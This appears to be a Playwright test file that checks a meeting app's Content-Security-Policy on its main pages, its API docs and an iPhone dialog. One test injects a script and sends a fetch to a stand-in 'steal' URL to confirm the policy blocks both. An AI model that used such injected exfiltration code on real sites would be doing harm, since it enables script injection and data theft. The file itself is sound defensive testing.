import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Mesh, startMesh } from '../src/index.ts';
import { launchChromium } from '../src/testing/chromium.ts';
import { createMeeting } from '../src/testing/meetings.ts';

let mesh: Mesh;
let browser: Browser;

beforeAll(async () => {
  [mesh, browser] = await Promise.all([startMesh({ regions: ['eu-central-1'] }), launchChromium()]);
});
afterAll(async () => {
  await browser?.close();
  await mesh?.stop();
});

/** A page that notes what its Content-Security-Policy refuses. */
async function watchedPage(): Promise<{ page: Page; violations: () => Promise<string[]> }> {
  const page = await (await browser.newContext({ viewport: { width: 1280, height: 800 } })).newPage();
  await page.addInitScript(`
    window.refusedByPolicy = [];
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      window.refusedByPolicy.push([violatedDirective, blockedURI, sample].join(' '));
    });
  `);
  return { page, violations: () => page.evaluate('window.refusedByPolicy') };
}

/** A library in the API reference tries whether it may compile schemas, and goes on without. */
const asksForEval = 'script-src eval ';

test('no main page of the app, nor the API reference, breaks its Content-Security-Policy', async () => {
  const meetingId = await createMeeting(mesh.url);
  const { page, violations } = await watchedPage();
  for (const path of ['/', '/mesh', '/operators', '/calendar', '/account', `/m/${meetingId}/recordings`, '/docs']) {
    await page.goto(`${mesh.url}${path}`, { waitUntil: 'networkidle' });
    expect(
      (await violations()).filter((one) => one !== asksForEval),
      path,
    ).toEqual([]);
  }
  await page.goto(`${mesh.url}/m/${meetingId}`);
  await page.getByTestId('join-name').fill('Ada');
  await page.getByTestId('join-button').click();
  await page.locator('[data-testid=tile][data-kind=self] video').waitFor();
  expect(await violations(), 'the meeting').toEqual([]);
  await page.context().close();
});

test('nor does a dialog on an iPhone, where the page behind it is held still by a style', async () => {
  const { page, violations } = await watchedPage();
  await page.addInitScript(`
    Object.defineProperty(NavigatorUAData.prototype, 'platform', { get: () => 'iPhone' });
  `);
  await page.goto(`${mesh.url}/m/${await createMeeting(mesh.url)}`);
  await page.getByTestId('join-name').fill('Ada');
  await page.getByTestId('join-button').click();
  await page.getByTestId('open-settings').click();
  await page.getByRole('dialog').waitFor();
  expect(await page.evaluate(`getComputedStyle(document.body).overscrollBehaviorY`)).toBe('contain');
  expect(await violations()).toEqual([]);
  await page.context().close();
});

test('a script that got into a page does not run, and nothing is sent elsewhere', async () => {
  const { page, violations } = await watchedPage();
  await page.goto(mesh.url);
  await page.evaluate(`
    const script = document.createElement('script');
    script.textContent = 'window.ranAnyway = true';
    document.body.append(script);
    fetch('https://example.org/steal').catch(() => {});
  `);
  await expect.poll(async () => (await violations()).map((one) => one.split(' ')[0])).toHaveLength(2);
  const refused = new Set((await violations()).map((one) => one.split(' ')[0]));
  expect(refused).toEqual(new Set(['connect-src', 'script-src-elem']));
  expect(await page.evaluate('window.ranAnyway')).toBeUndefined();
  await page.context().close();
});
